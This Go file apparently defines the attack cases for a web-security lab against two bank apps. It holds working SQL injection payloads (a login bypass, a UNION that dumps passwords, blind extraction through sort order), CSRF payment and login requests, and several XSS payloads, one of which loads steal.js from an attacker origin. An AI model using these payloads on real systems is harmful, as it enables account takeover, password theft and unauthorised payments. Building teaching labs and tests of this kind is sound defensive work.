// Package attacker has the attacks on the two banks, and a page of the attacker's own
// site from which a browser makes them. The attacker is eve, a customer.
package attacker

import "net/url"

// Taken is the title that the scripts of the attacks give to a page in which they run.
const Taken = "taken over"

// stolen is the script that all of them run. It has no quotes, so that it fits into
// attributes and into a query.
const stolen = "top.document.title=`" + Taken + "`"

// letter is a column to sort by that is one thing or another, as a password begins.
const letter = "CASE WHEN (SELECT password FROM account WHERE name='ada') LIKE 'a%' THEN city ELSE name END"

// An Attack is one request of a browser. The requests of [Attacks] are all well formed.
type Attack struct {
	Scenario, Name string
	Method, Path   string
	Fields         url.Values // the query of a GET, the form of a POST
	// From is the header Sec-Fetch-Site: cross-site or same-site when a page of the
	// attacker asks, same-origin when eve uses the bank's own form.
	From string
	// By is the customer who has logged in with the browser; "" is nobody.
	By string
	// Gets is what the bank's page then has in it; "" if the attack is not after a page.
	Gets string
}

// Link is where a GET goes.
func (a Attack) Link(victim string) string { return victim + a.Path + "?" + a.Fields.Encode() }

// Attacks returns all of them, for an attacker whose site is at an origin such as
// http://localhost:8002.
func Attacks(origin string) []Attack {
	script := "<script>" + stolen + "</script>"
	find := func(name, gets string, fields url.Values) Attack {
		return Attack{Scenario: "sql", Name: name, Method: "GET", Path: "/accounts", Fields: fields, From: "cross-site", Gets: gets}
	}
	xss := func(name, path, field, text, gets string) Attack {
		return Attack{"xss", name, "GET", path, url.Values{field: {text}}, "cross-site", "ada", gets}
	}
	pay := url.Values{"to": {"eve"}, "amount": {"10"}}
	return []Attack{
		{"sql", "log in as ada without her password", "POST", "/login", url.Values{"name": {"ada"}, "password": {"' OR '1'='1"}}, "same-origin", "", ""},
		find("all passwords, by a union", "analytical", url.Values{"q": {"zz' UNION SELECT name, password FROM account --"}}),
		find("all customers, by a condition", "London", url.Values{"q": {"zz%' OR 1=1 --"}}),
		find("a letter of a password, by the order", "<td>eve</td><td>Ely</td></tr><tr><td>bob</td>", url.Values{"q": {""}, "by": {letter}}),
		{"csrf", "a payment, by a page of another site", "POST", "/pay", pay, "cross-site", "ada", ""},
		{"csrf", "a payment, by a page of another port", "POST", "/pay", pay, "same-site", "ada", ""},
		{"login", "ada uses the bank as eve, without knowing", "POST", "/login", url.Values{"name": {"eve"}, "password": {"evil"}}, "cross-site", "", ""},
		xss("a script in a link", "/hello", "name", script, script),
		xss("an event handler in a link", "/hello", "name", `<img src="/nothing" onerror="`+stolen+`">`, `onerror="`+stolen),
		xss("a drawing's handler in a link", "/hello", "name", `<svg onload="`+stolen+`">`, `onload="`+stolen),
		{"xss", "a script that all who come later read", "POST", "/say", url.Values{"text": {script}}, "same-origin", "eve", script},
		xss("a document inside an attribute, which is escaped in vain", "/preview", "text", script, `srcdoc="&lt;script&gt;`),
		xss("a script's address, which is escaped in vain", "/widget", "src", origin+"/steal.js", `<script src="`+origin),
	}
}
